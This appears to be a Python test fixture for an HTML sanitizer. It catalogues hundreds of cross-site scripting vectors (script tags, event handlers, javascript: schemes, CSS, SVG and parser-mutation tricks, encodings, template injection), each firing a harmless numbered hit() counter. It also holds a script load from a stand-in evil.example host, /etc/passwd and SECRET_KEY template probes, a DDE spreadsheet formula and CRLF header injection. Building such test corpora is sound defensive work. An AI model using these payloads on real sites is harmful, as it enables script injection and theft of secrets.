# ruff: noqa: E501 – a vector is read best in one line
"""What somebody may try to bring into a page: texts that would run as a script if they stayed what they are.

`HIT` stands for the script: `hit(n)`, which a browser counts. Each is in a form of our own; kinds by what they lean on.
"""

SCRIPTS = [
    "<script>HIT</script>", "<ScRiPt>HIT</sCrIpT>", "<script >HIT</script >", "<script\n>HIT</script\n>",
    "<script\x0c>HIT</script>", "<script/x>HIT</script>", "<script src='data:text/javascript,HIT'></script>",
    "<script type=module>HIT</script>", "<scr<script>ipt>HIT</scr</script>ipt>", "<<script>HIT</script>",
    "<script><!--\nHIT\n--></script>", "<script>/*</script>*/HIT</script>", "</p><script>HIT</script><p>",
    "<script\x00>HIT</script>", "<\x00script>HIT</script>", "<s\x00cript>HIT</script>", "<script>HIT",
    "<script src=//evil.example/x.js></script>", "<script async defer src=data:,HIT></script>",
    "<script type='text/x'>1</script><script>HIT</script>", "<script nomodule>HIT</script>",
]  # fmt: skip
HANDLERS = [
    "<img src=x onerror=HIT>", "<img src=x onerror='HIT'//", "<img/src=x/onerror=HIT>", "<img\tsrc=x\nonerror\r=\fHIT>",
    "<IMG SRC=x ONERROR=HIT>", "<img src=x onerror=HIT", "<img src='x' on\x00error=HIT>", "<img src=x:x onerror=HIT>",
    "<img srcset=x onerror=HIT>", "<image src=x onerror=HIT>", "<p onmouseover=HIT>a</p>", "<p onclick=HIT>a</p>",
    "<p style='animation:x' onanimationstart=HIT>a</p>", "<body onload=HIT>", "<body onpageshow=HIT>",
    "<input autofocus onfocus=HIT>", "<select autofocus onfocus=HIT>", "<textarea autofocus onfocus=HIT>a</textarea>",
    "<button autofocus onfocus=HIT>a</button>", "<p tabindex=1 autofocus onfocus=HIT>a</p>",
    "<a autofocus href=x onfocus=HIT>a</a>", "<details open ontoggle=HIT><summary>a</summary></details>",
    "<video src=x onerror=HIT></video>", "<video><source onerror=HIT></video>", "<audio src=x onerror=HIT></audio>",
    "<video poster=x onloadstart=HIT src=x></video>", "<iframe onload=HIT></iframe>", "<object data=x onerror=HIT>a</object>",
    "<embed src=x onload=HIT>", "<marquee onstart=HIT>a</marquee>", "<link rel=stylesheet href=x onerror=HIT>",
    "<style onload=HIT>a{}</style>", "<dialog open onclose=HIT>a</dialog>", "<td background=x onload=HIT>a</td>",
    "<table><tr><td onclick=HIT>a</td></tr></table>", "<th scope=col onfocus=HIT tabindex=0 autofocus>a</th>",
    "<ol start=1 onfocus=HIT autofocus tabindex=0><li>a</li></ol>", "<abbr title=a onmouseover=HIT>a</abbr>",
    "<abbr title='\"onmouseover=HIT'>a</abbr>", "<abbr title='a\"><img src=x onerror=HIT>'>a</abbr>",
    "<a href='https://a.example/\"onmouseover=HIT//'>a</a>", "<p\x0bonclick=HIT>a</p>", "<p popover onbeforetoggle=HIT>a</p>",
]  # fmt: skip
SCHEMES = [
    "<a href=javascript:HIT>a</a>", "<a href=JaVaScRiPt:HIT>a</a>", "<a href=' javascript:HIT'>a</a>",
    "<a href='\x01javascript:HIT'>a</a>", "<a href='java\tscript:HIT'>a</a>", "<a href='java\nscript:HIT'>a</a>",
    "<a href='java\rscript:HIT'>a</a>", "<a href='javascript\t:HIT'>a</a>", "<a href='java&Tab;script:HIT'>a</a>",
    "<a href='java&NewLine;script:HIT'>a</a>", "<a href='javascript&colon;HIT'>a</a>", "<a href='&#106;avascript:HIT'>a</a>",
    "<a href='&#x6A;avascript:HIT'>a</a>", "<a href='&#0000106avascript:HIT'>a</a>", "<a href='javascript:HIT//https://a'>a</a>",
    "<a href='vbscript:HIT'>a</a>", "<a href='data:text/html,<script>HIT</script>'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4='>a</a>", "<a href='blob:https://a/HIT'>a</a>",
    "<a href='view-source:javascript:HIT'>a</a>", "<a href='jar:javascript:HIT'>a</a>", "<a href='file:///etc/passwd'>a</a>",
    "<a href='question:javascript:HIT'>a</a>", "<a href='question:\" onfocus=HIT autofocus x=\"'>a</a>",
    "<a href='service:&quot; onfocus=HIT autofocus x=&quot;'>a</a>", "<a href='help-line:112\"><script>HIT</script>'>a</a>",
    "<a href='JAVASCRIPT:question:HIT'>a</a>", "<a href='//evil.example/'>a</a>", "<a href='\\\\evil.example\\'>a</a>",
    "<a href='https:javascript:HIT'>a</a>", "<a href='tel:112;javascript:HIT'>a</a>", "<a href='mailto:a@b.eu?body=<script>HIT</script>'>a</a>",
    "<a href='javascript&#58;HIT'>a</a>", "<a href='\u2028javascript:HIT'>a</a>", "<a href='\u200bjavascript:HIT'>a</a>",
    "<a href='https://a.example' target=_top ping=javascript:HIT>a</a>", "<form action=javascript:HIT><button>a</button></form>",
    "<button formaction=javascript:HIT>a</button>", "<iframe src=javascript:HIT></iframe>", "<object data=javascript:HIT></object>",
    "<embed src=javascript:HIT>", "<img src=javascript:HIT>", "<base href=javascript:HIT//><a href=x>a</a>",
    "<meta http-equiv=refresh content='0;url=javascript:HIT'>", "<area href=javascript:HIT>", "<isindex action=javascript:HIT type=image>",
    "<iframe srcdoc='&lt;script>parent.HIT&lt;/script>'></iframe>", "<link rel=import href='data:text/html,<script>HIT</script>'>",
]  # fmt: skip
STYLES = [
    "<style>@import 'data:,*{background:url(javascript:HIT)}'</style>", "<p style='background:url(javascript:HIT)'>a</p>",
    "<p style='width:expression(HIT)'>a</p>", "<p style='behavior:url(#default#time2)' onbegin=HIT>a</p>",
    "<style>p{-moz-binding:url('data:text/xml,HIT')}</style>", "<link rel=stylesheet href='javascript:HIT'>",
    "<style><img src=x onerror=HIT></style>", "<style></style><img src=x onerror=HIT>", "<p style='x:\\65xpression(HIT)'>a</p>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationend=HIT>a</p>", "<p style=\"a:'</style><script>HIT</script>'\">a</p>",
    "<p style='position:fixed;inset:0'><a href='https://evil.example'>a</a></p>", "<font size='+7' color=\"red;x:expression(HIT)\">a</font>",
]  # fmt: skip
GRAPHICS = [
    "<svg onload=HIT>", "<svg/onload=HIT>", "<svg><script>HIT</script></svg>", "<svg><script xlink:href='data:,HIT'/></svg>",
    "<svg><a xlink:href=javascript:HIT><text y=9>a</text></a></svg>", "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:HIT>", "<svg><use href='data:image/svg+xml,<svg id=x onload=HIT/>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>", "<svg><style><img src=x onerror=HIT></style></svg>",
    "<svg><image href=x onerror=HIT></svg>", "<svg><title><script>HIT</script></title></svg>", "<svg><desc><img src=x onerror=HIT></desc></svg>",
    "<math href=javascript:HIT>a</math>", "<math><mtext><img src=x onerror=HIT></mtext></math>", "<math><maction actiontype=statusline xlink:href=javascript:HIT>a</maction></math>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>HIT</handler></svg>", "<svg><discard onbegin=HIT></svg>",
    "<object type=image/svg+xml data='data:image/svg+xml,<svg onload=HIT/>'></object>",
]  # fmt: skip
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=HIT>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=HIT&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=HIT>", "<svg></p><style><a title='</style><img src=x onerror=HIT>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>", "<p title='`<img src=x onerror=HIT>'>",
    "<listing>&lt;img src=x onerror=HIT&gt;</listing>", "<xmp><img src=x onerror=HIT></xmp>", "<xmp><p title='</xmp><img src=x onerror=HIT>'>",
    "<template><script>HIT</script></template>", "<template shadowrootmode=open><img src=x onerror=HIT></template>",
    "<title><a title='</title><img src=x onerror=HIT>'>", "<textarea><p title='</textarea><img src=x onerror=HIT>'>",
    "<iframe><p title='</iframe><img src=x onerror=HIT>'>", "<noembed><p title='</noembed><img src=x onerror=HIT>'>",
    "<noframes><p title='</noframes><img src=x onerror=HIT>'>", "<plaintext><img src=x onerror=HIT>", "<select><style></select><img src=x onerror=HIT></style>",
    "<!--><img src=x onerror=HIT>-->", "<!---><img src=x onerror=HIT>-->", "<!--a--!><img src=x onerror=HIT>-->", "<!-- --\n><img src=x onerror=HIT>",
    "<![CDATA[><img src=x onerror=HIT>]]>", "<svg><![CDATA[><img src=x onerror=HIT>]]></svg>", "<?xml ><img src=x onerror=HIT> ?>", "<!doctype x [<!ENTITY a '<img src=x onerror=HIT>'>]>&a;",
    "<a title='&lt;/a&gt;&lt;img src=x onerror=HIT&gt;' href='https://a'>a</a>", "<table><a href='https://a'><img src=x onerror=HIT></table>",
    "<p><table><p><script>HIT</script></table>", "<dfn title=\"&quot;&gt;&lt;script&gt;HIT&lt;/script&gt;\">a</dfn>",
    "<svg><p><style><g title='</style><img src=x onerror=HIT>'>", "<math><annotation-xml encoding=text/html><img src=x onerror=HIT></annotation-xml></math>",
    "<b><p><b><p><script>HIT</script>", "<caption><caption><img src=x onerror=HIT>", "</br><img src=x onerror=HIT>", "</p/><img src=x onerror=HIT>",
]  # fmt: skip
UNICODE = [
    "\uff1cscript\uff1eHIT\uff1c/script\uff1e", "\u02c2img src=x onerror=HIT\u02c3", "<ſcript>HIT</ſcript>", "<ımg src=x onerror=HIT>",
    "<img src=x oneRrοr=HIT>", "<img src=x\u00a0onerror=HIT>", "<img src=x\u3000onerror=HIT>", "<img\u2028src=x\u2029onerror=HIT>",
    "+ADw-script+AD4-HIT+ADw-/script+AD4-", "%3Cscript%3EHIT%3C/script%3E", "\\u003cscript\\u003eHIT\\u003c/script\\u003e", "\\x3cscript\\x3eHIT\\x3c/script\\x3e",
    "&lt;script&gt;HIT&lt;/script&gt;", "&amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;", "&#60;script&#62;HIT&#60;/script&#62;", "&#x3c;img src=x onerror=HIT&#x3e;",
    "\ufeff<script>HIT</script>", "\u202e>tpircs/<TIH>tpircs<", "<img src=x onerror=HIT\ud7ff>", "¼script¾HIT¼/script¾",
    "<a href='javas\u00adcript:HIT'>a</a>", "<a href='ｊavascript:HIT'>a</a>",
]  # fmt: skip
TEMPLATES = [
    "{{ HIT }}", "{% load x %}{{ ''.__class__ }}", "{{constructor.constructor('HIT')()}}", "{{7*7}}", "${HIT}", "#{HIT}", "<%= HIT %>", "[[HIT]]",
    "{%csp%}<script>HIT</script>{%endcsp%}", "{{ settings.SECRET_KEY }}", "{% debug %}", "%(HIT)s", "{0.__class__}", "{{ request.META }}",
    "<p v-on:click=HIT>a</p>", "<p x-data x-init=HIT>a</p>", "<p hx-on:load=HIT>a</p>", "<p data-leave href=javascript:HIT>a</p>", "<p ng-app ng-init=HIT>a</p>",
    "{% include '/etc/passwd' %}", "{{ question|safe }}<script>HIT</script>",
]  # fmt: skip
HEADERS = [
    "a\r\nSet-Cookie: x=HIT", "a\nLocation: javascript:HIT", "a\r\n\r\n<script>HIT</script>", "a%0d%0aX-Injected: HIT", "a\u560a\u560dSet-Cookie: x=HIT",
    "a\x85b: HIT", "=HYPERLINK(\"javascript:HIT\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*HIT", "+HIT", "-HIT", "\t=HIT", "';HIT;//", "\";HIT;//", "`;HIT;//", "</title><script>HIT</script>",
    "--><script>HIT</script><!--", "]]><script>HIT</script>", "\\';HIT;//", "\u2028HIT\u2028", "' onmouseover=HIT x='", "\" onmouseover=HIT x=\"", "\" autofocus onfocus=HIT x=\"",
]  # fmt: skip
MARKDOWN = [
    "[a](javascript:HIT)", "[a](JaVaScRiPt:HIT)", "[a](<java\tscript:HIT>)", "[a](data:text/html,HIT)", "[a][b]\n\n[b]: javascript:HIT", "<javascript:HIT>", "![a](javascript:HIT)",
    "![a](x\"onerror=HIT)", "[a](https://a \"'onmouseover=HIT'\")", "[a](https://a \"\"onmouseover=HIT\")", "`<script>HIT</script>`", "    <script>HIT</script>", "```\n<script>HIT</script>\n```",
    "[<img src=x onerror=HIT>](https://a)", "| <script>HIT</script> |\n|---|\n| <img src=x onerror=HIT> |", "[a](vbscript:HIT)", "[a](question:\"onfocus=HIT)", "<a@b.eu\"onclick=HIT>", "# <svg onload=HIT>",
    "[a](&#106;avascript:HIT)",
]  # fmt: skip

KINDS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "schemes": SCHEMES,
    "styles": STYLES,
    "graphics": GRAPHICS,
    "mutations": MUTATIONS,
    "unicode": UNICODE,
    "templates": TEMPLATES,
    "headers": HEADERS,
    "markdown": MARKDOWN,
}
# Numbered, so that a browser can say which of them ran.
VECTORS = [
    vector.replace("HIT", f"hit({number})")
    for number, vector in enumerate(vector for vectors in KINDS.values() for vector in vectors)
]
